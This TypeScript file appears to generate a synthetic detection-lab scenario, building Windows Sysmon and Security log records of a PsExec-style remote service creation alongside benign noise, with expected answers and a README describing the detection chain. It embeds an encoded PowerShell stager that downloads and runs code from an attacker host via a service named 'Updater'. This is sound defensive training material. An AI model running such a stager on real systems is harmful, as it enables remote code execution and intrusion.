// SVC-RPC-EXEC lab story: remote service creation over RPC/TCP (PsExec / Empire
// invoke_psexec style) from WORKSTATION5 into WORKSTATION6. services.exe accepts the
// connection on a dynamic port, installs a service whose command line is the stager,
// and starts cmd.exe. Benign look-alike: services.exe starting known service binaries.
import { IMAGES, LAB } from '../lab';
import { benignNoise, makeProc, systemProcs } from '../noise';
import type { Random } from '../random';
import type { Scenario, WinRecord } from '../records';
import {
  securityLogon, securityProcessCreate, securityWfpConnection, serviceInstalled, serviceStateChanged,
  sysmonNetworkConnect, sysmonProcessCreate,
} from '../windows';
import { encodedCommand, readme } from './common';

export function svcRpcExec(rng: Random, start: number): Scenario {
  const { ws5, ws6 } = LAB;
  const attack = start + 50 * 60_000;
  const noise = benignNoise(rng, ws6, start, start + 90 * 60_000, 140, true);
  const sys = systemProcs(rng, ws6);
  const stager = `C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc ${encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('https://${LAB.attacker}/news.php')`)}`;
  const epmap = { protocol: 'tcp' as const, srcIp: ws5.ip, srcPort: 56607, dstIp: ws6.ip, dstPort: 135 };
  const svcctl = { protocol: 'tcp' as const, srcIp: ws5.ip, srcPort: 56608, dstIp: ws6.ip, dstPort: 49726 };
  const cmd = makeProc(rng, ws6, IMAGES.cmd, `C:\\Windows\\system32\\cmd.exe /C start /b ${stager}`);
  const ps = makeProc(rng, ws6, IMAGES.powershell, stager);
  const attackRecords: WinRecord[] = [
    sysmonNetworkConnect(attack, ws6, sys.rpcss, { ...epmap, initiated: false }),
    securityWfpConnection(attack, ws6, 5156, sys.rpcss.pid, sys.rpcss.image, true, epmap),
    securityLogon(attack + 95, ws6, LAB.users.admin, 3, ws5.ip, 56608, '0x2990d17'),
    sysmonNetworkConnect(attack + 140, ws6, sys.services, { ...svcctl, initiated: false }),
    securityWfpConnection(attack + 140, ws6, 5156, sys.services.pid, sys.services.image, true, svcctl),
    serviceInstalled(attack + 310, ws6, 'Updater', `%COMSPEC% /C start /b ${stager}`),
    sysmonProcessCreate(attack + 402, ws6, cmd, sys.services),
    securityProcessCreate(attack + 402, ws6, cmd, sys.services, `${ws6.name}$`),
    sysmonProcessCreate(attack + 655, ws6, ps, cmd),
    securityProcessCreate(attack + 655, ws6, ps, cmd, `${ws6.name}$`),
    sysmonNetworkConnect(attack + 2_890, ws6, ps, { protocol: 'tcp', initiated: true, srcIp: ws6.ip, srcPort: 56740, dstIp: LAB.attacker, dstPort: 443 }),
    serviceStateChanged(attack + 30_402, ws6, 'Updater', 'stopped'),
  ];
  const all = [...noise, ...attackRecords];
  return {
    folder: 'SVC-RPC-EXEC-remote-service',
    analytic: 'SVC-RPC-EXEC',
    files: [
      { path: 'WORKSTATION6-sysmon.json', format: 'nxlog-ndjson', records: all.filter((r) => r.provider === 'Microsoft-Windows-Sysmon') },
      { path: 'WORKSTATION6-security-system.xml', format: 'evtx-xml', records: all.filter((r) => r.provider !== 'Microsoft-Windows-Sysmon') },
    ],
    expected: { host: 'WORKSTATION6', keyEvent: 'cmd.exe' },
    readme: readme({
      title: 'SVC-RPC-EXEC — a service created over RPC runs the stager on WORKSTATION6',
      story: [
        `With \`${LAB.users.admin}\`'s stolen credentials the attacker on WORKSTATION5 (${ws5.ip}) asks the endpoint mapper`,
        'on WORKSTATION6 (TCP 135) for the service control manager, connects to `services.exe` on the dynamic port 49726,',
        'creates a service "Updater" whose ImagePath is `%COMSPEC% /C start /b powershell -noP -sta -w 1 -enc ...`, and',
        'starts it: `services.exe` spawns `cmd.exe`, which starts the PowerShell stager calling back to',
        `${LAB.attacker}:443. Around it: 90 minutes of WORKSTATION6's normal life — services.exe starting`,
        'svchost, sppsvc, msiexec and TrustedInstaller, browsing, domain traffic, service state changes.',
      ],
      files: [
        '`WORKSTATION6-sysmon.json` — Sysmon, NXLog NDJSON export.',
        '`WORKSTATION6-security-system.xml` — Security and System channels as EVTX-XML (`wevtutil qe /f:xml`, one `<Event>` per line).',
      ],
      chain: [
        'step 1 (inbound): `services.exe` accepting 172.18.39.5:56608 on port 49726 (Sysmon 3; also Security 5156 with the device path `\\device\\harddiskvolume2\\windows\\system32\\services.exe`);',
        'step 2 (child): `services.exe` starting `cmd.exe /C start /b ...powershell -noP -sta -w 1 -enc ...` (Sysmon 1 and Security 4688);',
        'supporting evidence: System 7045 "Updater" installed with the same command line.',
        'Benign children of services.exe (svchost.exe, sppsvc.exe, msiexec.exe, TrustedInstaller.exe) are on the allowlist and form no chain.',
      ],
    }),
  };
}
